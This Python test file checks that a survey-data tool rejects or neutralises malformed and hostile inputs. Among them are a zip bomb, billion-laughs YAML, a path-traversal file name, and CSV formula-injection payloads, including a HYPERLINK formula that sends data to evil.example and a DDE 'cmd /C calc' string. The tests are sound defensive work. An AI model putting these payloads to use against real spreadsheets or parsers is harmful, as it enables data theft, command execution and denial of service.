"""The bad-input corpus: every malformed input gets a specific, one-line error.

Each case is generated here in ``tmp_path`` (nothing is stored in the repository). For each one
we check, through the Python API, the exception class from :mod:`servicestudy.errors` and that
its message is one line naming the file (and the row, column and value where they apply); and,
through the command line (``servicestudy.cli.main``), exit status 2, a single
``servicestudy <command>: error: ...`` line on standard error with no traceback, and an output
folder left exactly as it was (no partial output).

The table of cases is documented in ``docs/robustness.md``.
"""

from __future__ import annotations

import csv
import hashlib
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from servicestudy.cli import main
from servicestudy.codebook import load_codebook
from servicestudy.coding import code_responses
from servicestudy.errors import (
    CodebookError,
    CodingError,
    OutputError,
    ReadError,
    SchemaError,
    ServicestudyError,
)
from servicestudy.io import read_export, write_processed
from test_guards import make_encrypted_xlsx, make_far_cell_xlsx, make_zip_bomb

CB = load_codebook("k_station")
HEADER = ["序号", "来自IP", "1、您的性别", "ATT1", "ATT2", "ATT3", "suggestion"]
GOOD_ROWS = [
    ["1", "192.0.2.1", "男", "同意", "非常同意", "一般", "很好"],
    ["2", "192.0.2.2", "女", "5", "不同意", "同意", ""],
    ["3", "192.0.2.3", "女", "一般", "同意", "不清楚", "无"],
]


def csv_bytes(header=HEADER, rows=GOOD_ROWS, encoding="utf-8") -> bytes:
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\n").writerows([header, *rows])
    return buf.getvalue().encode(encoding)


def with_cell(row: int, col: str, value: str) -> list[list[str]]:
    """GOOD_ROWS with one cell replaced (``row`` is the spreadsheet row, 2 = first response)."""
    rows = [list(r) for r in GOOD_ROWS]
    rows[row - 2][HEADER.index(col)] = value
    return rows


# --- the corpus ---------------------------------------------------------------------------


@dataclass
class Case:
    name: str
    build: Callable[[Path], Path]  # writes the input file(s) under tmp_path, returns the export
    error: type[ServicestudyError]
    contains: tuple[str, ...] = ()  # fragments the message must contain
    stage: str = "read"  # read | code | codebook | output
    cli_extra: Callable[[Path], list[str]] = field(default=lambda tmp: [])
    read_kw: dict[str, Any] = field(default_factory=dict)


def _write(name: str, data: bytes) -> Callable[[Path], Path]:
    def build(tmp: Path) -> Path:
        path = tmp / name
        path.write_bytes(data)
        return path

    return build


def _good_csv(tmp: Path) -> Path:
    return _write("wave.csv", csv_bytes())(tmp)


def _mixed_encoding(tmp: Path) -> Path:
    """UTF-8 header and first row, then a GBK row: the whole file happens to be valid GB18030,
    so a fallback decoder garbles the UTF-8 part without noticing."""
    header, rows = ["序号", "ATT1", "ATT2"], [["1", "同意", "同意"], ["2", "同意", "不同意"]]
    data = csv_bytes(header=header, rows=rows[:1]) + ",".join(rows[1]).encode("gbk") + b"\n"
    data.decode("gb18030")  # the trap: decodes without error
    return _write("mixed.csv", data)(tmp)


def _corrupt_xlsx(tmp: Path) -> Path:
    good = tmp / "good.xlsx"
    wb = openpyxl.Workbook()
    wb.active.append(HEADER)
    wb.save(good)
    data = good.read_bytes()
    good.unlink()
    return _write("corrupt.xlsx", data[: len(data) // 2])(tmp)


def _covered_workbook(tmp: Path) -> Path:
    """Two sheets: a cover sheet with merged header cells first, the data second."""
    path = tmp / "two_sheets.xlsx"
    wb = openpyxl.Workbook()
    cover = wb.active
    cover.title = "说明"
    cover["A1"] = "问卷说明"
    cover.merge_cells("A1:D1")
    cover["A2"] = "数据在第二个工作表"
    data = wb.create_sheet("数据")
    data.append(HEADER)
    for r in GOOD_ROWS:
        data.append(r)
    wb.save(path)
    return path


_BOMB: list[bytes] = []


def _zip_bomb(tmp: Path) -> Path:
    """40 MiB of sheet XML in about 40 KiB (built once per session, then copied)."""
    if not _BOMB:
        _BOMB.append(make_zip_bomb(tmp / "bomb.xlsx", megabytes=40).read_bytes())
    return _write("bomb.xlsx", _BOMB[0])(tmp)


def _codebook_file(text: str) -> Callable[[Path], list[str]]:
    def extra(tmp: Path) -> list[str]:
        path = tmp / "codebook.yaml"
        path.write_text(text, encoding="utf-8")
        return ["--codebook", str(path)]

    return extra


BILLION_LAUGHS = "\n".join(
    ["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    + [f"{c}: &{c} [{', '.join([f'*{p}'] * 9)}]" for p, c in zip("abcdefgh", "bcdefghi", strict=True)]
) + "\n"
NESTED_LAUGHS = (
    "format: servicestudy-codebook\nversion: 1\nextra:\n"
    + "".join(f"  {line}\n" for line in BILLION_LAUGHS.splitlines())
    + "study: {id: demo, notes: *i}\n"
    "scales:\n  s: {levels: [{code: 1, zh: 是, en: yes}, {code: 2, zh: 否, en: no}]}\n"
    "constructs:\n  c: {zh: 甲, en: A}\n"
    "items:\n  - {id: A1, zh: 题一, en: Q1, scale: s, construct: c}\n"
)
YAML_SYNTAX = "format: servicestudy-codebook\nversion: 1\nitems:\n  - {id: A1, zh: 甲\n  - {id: A2}\n"
UNKNOWN_KEY = (
    "format: servicestudy-codebook\nversion: 1\nstudy: {id: demo}\n"
    "scales:\n  s: {levels: [{code: 1, zh: 是, en: yes}, {code: 2, zh: 否, en: no}]}\n"
    "constructs:\n  c: {zh: 甲, en: A}\n"
    "items:\n  - {id: A1, zh: 题一, en: Q1, scale: s, construct: c, revrese: true}\n"
)

CASES = [
    Case("missing file", lambda tmp: tmp / "absent.csv", ReadError, ("absent.csv", "no such file")),
    Case("a folder", lambda tmp: tmp, ReadError, ("a folder",)),
    Case("empty csv", _write("empty.csv", b""), ReadError, ("empty.csv", "empty (0 bytes)")),
    Case("empty xlsx", _write("empty.xlsx", b""), ReadError, ("empty.xlsx", "empty (0 bytes)")),
    Case(
        "header only", _write("header.csv", csv_bytes(rows=[])), SchemaError,
        ("header.csv", "no responses", "no data rows"),
    ),
    Case(
        "wrong encoding (GBK read as UTF-8)", _write("gbk.csv", csv_bytes(encoding="gbk")), ReadError,
        ("gbk.csv", "cannot decode as utf-8"), read_kw={"encoding": "utf-8"},
        cli_extra=lambda tmp: ["--encoding", "utf-8"],
    ),
    Case("undecodable bytes", _write("junk.csv", b"\xff\xfe\xfa,\x81\x00x\n1,2\n"), ReadError, ("junk.csv",)),
    Case(
        "mixed encoding (UTF-8 rows then a GBK row)", _mixed_encoding, ReadError,
        ("mixed.csv", "row 3", "mixed text encodings"),
    ),
    Case("unknown encoding name", _good_csv, ReadError, ("unknown encoding",),
         read_kw={"encoding": "no-such-codec"}, cli_extra=lambda tmp: ["--encoding", "no-such-codec"]),
    Case(
        "two headers naming one item", _write("dup.csv", csv_bytes(header=[*HEADER[:6], "民警办事态度热情、礼貌"])),
        SchemaError, ("dup.csv", "both match 'ATT1'"),
    ),
    Case(
        "duplicate identical headers", _write("dup2.csv", csv_bytes(header=[*HEADER[:6], "ATT3"])),
        SchemaError, ("dup2.csv", "column 'ATT3'", "duplicate header"),
    ),
    Case(
        "cover sheet with merged cells first (data on sheet 2)", _covered_workbook, SchemaError,
        ("two_sheets.xlsx", "none of the codebook's", "sheet '说明'", "'数据'"),
    ),
    Case("no such sheet", _covered_workbook, ReadError, ("no sheet 'nope'", "数据"),
         read_kw={"sheet": "nope"}, cli_extra=lambda tmp: ["--sheet", "nope"]),
    Case("corrupt xlsx", _corrupt_xlsx, ReadError, ("corrupt.xlsx", "corrupt")),
    Case("password-protected xlsx", lambda tmp: make_encrypted_xlsx(tmp / "locked.xlsx"), ReadError,
         ("locked.xlsx", "password-protected")),
    Case("zip bomb xlsx", _zip_bomb, ReadError, ("bomb.xlsx", "zip bomb")),
    Case("a stray cell at XFD1048576 (dense-grid memory bomb)", lambda tmp: make_far_cell_xlsx(tmp / "far.xlsx"),
         ReadError, ("far.xlsx", "1048576 rows x 16384 columns")),
    Case("a CSV header with 20,000 columns", _write("wide.csv", (",".join(f"c{i}" for i in range(20_000)) + "\n1\n").encode()),
         ReadError, ("wide.csv", "more than 16384 fields")),
    Case("HTML saved as .xls", _write("page.xls", b"<html><body><table><tr><td>1</td></tr></table></body></html>"),
         ReadError, ("page.xls", "HTML")),
    Case("binary under .csv", _write("binary.csv", bytes(range(256)) * 8), ReadError, ("binary.csv",)),
    Case("ragged row", _write("ragged.csv", csv_bytes(rows=[GOOD_ROWS[0], [*GOOD_ROWS[1], "extra"]])),
         SchemaError, ("ragged.csv", "row 3", "8 fields")),
    Case("formula in an item cell", _write("formula.csv", csv_bytes(rows=with_cell(3, "ATT2", "=1+1"))),
         CodingError, ("formula.csv", "row 3", "column 'ATT2'", "'=1+1'"), stage="code"),
    Case("out-of-range code", _write("range.csv", csv_bytes(rows=with_cell(4, "ATT1", "7"))),
         CodingError, ("range.csv", "row 4", "column 'ATT1'", "7", "out of range"), stage="code"),
    Case("non-numeric code", _write("nonnum.csv", csv_bytes(rows=with_cell(2, "ATT3", "3.5分"))),
         CodingError, ("nonnum.csv", "row 2", "column 'ATT3'", "'3.5分'"), stage="code"),
    Case("unknown label", _write("label.csv", csv_bytes(rows=with_cell(3, "ATT1", "很满意!"))),
         CodingError, ("label.csv", "row 3", "column 'ATT1'", "'很满意!'", "unknown label"), stage="code"),
    Case(
        "required items missing (no item of the codebook)",
        _write("noitems.csv", csv_bytes(header=["序号", "来自IP", "1、您的性别", "x", "y", "z", "w"])),
        SchemaError, ("noitems.csv", "none of the codebook's 30 items"),
    ),
    Case("codebook YAML syntax error", _good_csv, CodebookError, ("codebook.yaml", "YAML error at line"),
         stage="codebook", cli_extra=_codebook_file(YAML_SYNTAX)),
    Case("codebook unknown key", _good_csv, CodebookError, ("codebook.yaml", "unknown key", "revrese"),
         stage="codebook", cli_extra=_codebook_file(UNKNOWN_KEY)),
    Case("codebook alias bomb at the top level", _good_csv, CodebookError, ("codebook.yaml",),
         stage="codebook", cli_extra=_codebook_file(BILLION_LAUGHS)),
    Case(
        "codebook billion laughs inside study", _good_csv, CodebookError,
        ("codebook.yaml", "expands to more than"),
        stage="codebook", cli_extra=_codebook_file(NESTED_LAUGHS),
    ),
    Case(
        "output name escaping its folder", _good_csv, OutputError, ("../escape", "plain file name"),
        stage="output", cli_extra=lambda tmp: ["--name", "../escape"],
    ),
]


def _ids(cases: list[Case]) -> list[Any]:
    out = []
    for c in cases:
        out.append(pytest.param(c, id=c.name))
    return out


def _snapshot(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _api(case: Case, tmp: Path) -> None:
    export = case.build(tmp)
    if case.stage == "codebook":
        load_codebook(Path(case.cli_extra(tmp)[1]))
        return
    raw = read_export(export, CB, **case.read_kw)
    coded = code_responses(raw, CB)
    if case.stage == "output":
        write_processed(coded, tmp / "out", name="../escape", key="0123456789abcdef-test")
        return
    # a read or code stage case that got this far did not raise: fail below
    if case.stage in ("read", "code"):
        write_processed(coded, tmp / "out", key="0123456789abcdef-test")


@pytest.mark.parametrize("case", _ids(CASES))
def test_api_raises_specific_one_line_error(case: Case, tmp_path: Path) -> None:
    with pytest.raises(case.error) as info:
        _api(case, tmp_path)
    assert type(info.value) is case.error
    text = str(info.value)
    assert "\n" not in text
    for fragment in case.contains:
        assert fragment in text, f"{fragment!r} not in {text!r}"


@pytest.mark.parametrize("case", _ids(CASES))
def test_cli_exits_2_without_traceback_or_output(case: Case, tmp_path: Path, capsys) -> None:
    export = case.build(tmp_path)
    out = tmp_path / "processed"
    out.mkdir()
    (out / "keep.txt").write_text("untouched")
    before = _snapshot(out)
    listing = sorted(p.name for p in tmp_path.iterdir())
    code = main(["code", str(export), "--out", str(out), *case.cli_extra(tmp_path)])
    captured = capsys.readouterr()
    assert code == 2, captured.out + captured.err
    err_lines = captured.err.strip().splitlines()
    assert len(err_lines) == 1, captured.err
    assert err_lines[0].startswith("servicestudy code: error: ")
    assert "Traceback" not in captured.err
    for fragment in case.contains:
        assert fragment in err_lines[0]
    assert _snapshot(out) == before
    after = {p.name for p in tmp_path.iterdir()} - {"codebook.yaml"}
    assert after == set(listing) - {"codebook.yaml"}
    assert not (tmp_path / "escape.csv").exists()
    assert not list(tmp_path.rglob(".*.tmp"))


@pytest.mark.parametrize("case", _ids([c for c in CASES if c.stage in ("read", "codebook")]))
def test_validate_exits_2_on_unreadable_input(case: Case, tmp_path: Path, capsys) -> None:
    export = case.build(tmp_path)
    code = main(["validate", str(export), *case.cli_extra(tmp_path)])
    captured = capsys.readouterr()
    assert code == 2
    assert captured.err.startswith("servicestudy validate: error: ")
    assert "Traceback" not in captured.err


def test_formula_text_never_reaches_processed_csv(tmp_path: Path, capsys) -> None:
    """A formula typed into a free-text answer is legitimate text: it is kept but neutralised."""
    rows = with_cell(2, "suggestion", '=HYPERLINK("http://evil.example/?x="&A1,"点击")')
    rows = [rows[0], [*rows[1][:6], "@SUM(A1:A9)"], rows[2]]
    export = tmp_path / "formula_text.csv"
    export.write_bytes(csv_bytes(rows=rows))
    out = tmp_path / "processed"
    assert main(["code", str(export), "--out", str(out)]) == 0
    capsys.readouterr()
    text = (out / "responses.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text
    assert "'@SUM(A1:A9)" in text
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.startswith(("=", "@", "+")), cell


def test_line_breaks_inside_answers_cannot_start_a_row_in_processed_csv(tmp_path: Path, capsys) -> None:
    """A carriage return inside an open answer must not split the row in the CSV written for
    Excel (where the text after it would start a new row, and a formula there would run)."""
    rows = [list(r) for r in GOOD_ROWS]
    rows[0][HEADER.index("suggestion")] = "服务很好\r=1+2+cmd|' /C calc'!A0"
    rows[1][HEADER.index("suggestion")] = "第一行\n@SUM(A1)\r\n+3"
    buf = io.StringIO(newline="")
    csv.writer(buf, lineterminator="\r\n").writerows([HEADER, *rows])  # quotes the CR/LF cells
    export = tmp_path / "breaks.csv"
    export.write_bytes(buf.getvalue().encode("utf-8"))
    out = tmp_path / "processed"
    assert main(["code", str(export), "--out", str(out)]) == 0
    capsys.readouterr()
    raw = (out / "responses.csv").read_bytes().decode("utf-8-sig")
    parsed = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(parsed) == 1 + len(GOOD_ROWS)
    suggestion = parsed[0].index("suggestion")
    assert parsed[1][suggestion] == "服务很好\r=1+2+cmd|' /C calc'!A0"  # one cell, kept whole
    assert parsed[2][suggestion] == "第一行\n@SUM(A1)\r\n+3"
    for row in parsed:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell


def test_corpus_size() -> None:
    """The documented number of bad-input cases (docs/robustness.md)."""
    assert len(CASES) == 31


def test_zip_bomb_fixture_is_small(tmp_path: Path) -> None:
    path = _zip_bomb(tmp_path)
    assert path.stat().st_size < 200_000
    with zipfile.ZipFile(path) as zf:
        assert sum(i.file_size for i in zf.infolist()) > 40 * 10**6
